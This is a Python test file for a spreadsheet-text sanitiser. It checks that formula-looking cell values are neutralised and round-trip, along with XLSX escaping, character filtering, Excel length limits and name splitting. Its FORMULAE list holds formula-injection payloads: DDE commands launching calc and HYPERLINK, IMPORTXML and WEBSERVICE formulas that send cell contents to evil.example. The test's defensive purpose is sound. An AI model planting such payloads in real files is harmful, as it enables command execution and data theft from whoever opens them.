"""Texts in spreadsheets: nothing that begins like a formula stays one, and every text comes back as it was."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lutonhet.sheets.text import apart, as_typed, for_xlsx, from_xlsx, inert, is_too_long, printable, together

# What is known to run when a spreadsheet program opens a file that has it.
FORMULAE = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    '=WEBSERVICE("http://evil.example")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
)
BEGINNINGS = st.sampled_from(["", "'", "''", "=", "'=", " =", "\t", "\r", "-", "@", "+", "'-", "_x000D_", "_x005F_"])
TEXTS = st.builds(lambda beginning, rest: beginning + rest, BEGINNINGS, st.text(max_size=30))


@pytest.mark.parametrize("text", FORMULAE, ids=range(len(FORMULAE)))
def test_a_formula_is_made_inert_and_comes_back_as_typed(text):
    assert inert(text) == f"'{text}"
    assert as_typed(inert(text)) == text


@given(TEXTS)
def test_every_text_comes_back_from_being_made_inert(text):
    assert not re.match(r"\s*[=+\-@]", inert(text))
    assert as_typed(inert(text)) == text


def test_words_with_an_apostrophe_of_their_own_are_left_alone():
    for text in ("'tis", "it's =1", "", "five", "a-b"):
        assert inert(text) == as_typed(text) == text


@given(TEXTS)
def test_a_text_that_looks_like_a_written_character_comes_back_from_xlsx(text):
    text = printable(text)
    assert from_xlsx(for_xlsx(text)) == text


def test_what_excel_writes_for_a_line_end_becomes_one():
    assert from_xlsx("one_x000D_\ntwo") == "one\ntwo"


@given(st.text(st.characters(), max_size=60))
def test_what_is_printable_fits_into_xml_and_stays_as_it_is(text):
    text = printable(text)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\ud800-\udfff\ufffe\uffff]", text)
    assert printable(text) == text


def test_soft_line_breaks_become_line_breaks_or_blanks():
    assert printable("one\x0btwo\r\nthree\rfour\x00\x07") == "one\ntwo\nthree\nfour"
    assert printable("one\x0btwo\nthree", lines=False) == "one two three"


def test_length_is_counted_as_excel_counts_it():
    assert not is_too_long("é" * 32_767)
    assert is_too_long("é" * 32_768)
    assert not is_too_long("😀" * 16_383)
    assert is_too_long("😀" * 16_384)


def test_names_in_one_cell_come_apart_again():
    assert together(["LBC", "UoB"]) == "LBC; UoB"
    for names in (["LBC"], ["A; B Ltd", "C"], ['The "Hub"', "D; E"], ["One\ntwo", "Three"]):
        assert apart(together(names)) == names
    assert apart(" LBC ;UoB;; ") == ["LBC", "UoB"]


@given(st.lists(st.text("ab;\"'\n ,=", min_size=1).map(str.strip).filter(bool), max_size=4))
def test_any_names_come_apart_again(names):
    assert apart(together(names)) == names
